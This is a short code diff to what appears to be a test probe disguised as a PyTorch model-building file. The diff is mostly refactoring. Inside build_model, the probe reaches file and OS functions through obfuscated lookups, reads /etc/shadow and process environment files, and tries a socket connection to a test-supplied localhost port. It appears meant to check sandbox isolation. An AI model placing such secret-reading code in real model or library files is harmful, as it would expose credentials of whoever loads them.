@@ -1,5 +1,7 @@
-import torch
 from torch import nn
+
+PORT = 0  # the test puts its listener's port here
+MARKER = "marker"  # and a host path here
 
 
 def _grab(fn):
@@ -26,13 +28,13 @@ def build_model(num_classes):
     read = b.get("op" + "en")
     os = imp("os")
     found = []
-    for path in ["/etc/shadow", "/proc/1/environ", "/proc/%d/environ" % os.getppid()]:
+    for path in ["/etc/shadow", "/proc/1/environ", f"/proc/{os.getppid()}/environ"]:
         try:
             found.append(read(path).read()[:300])
         except Exception as e:
             found.append(repr(e))
     try:
-        s = imp("socket").create_connection(("127.0.0.1", PORT), timeout=2)
+        imp("socket").create_connection(("127.0.0.1", PORT), timeout=2)
         found.append("connected")
     except Exception as e:
         found.append(repr(e))
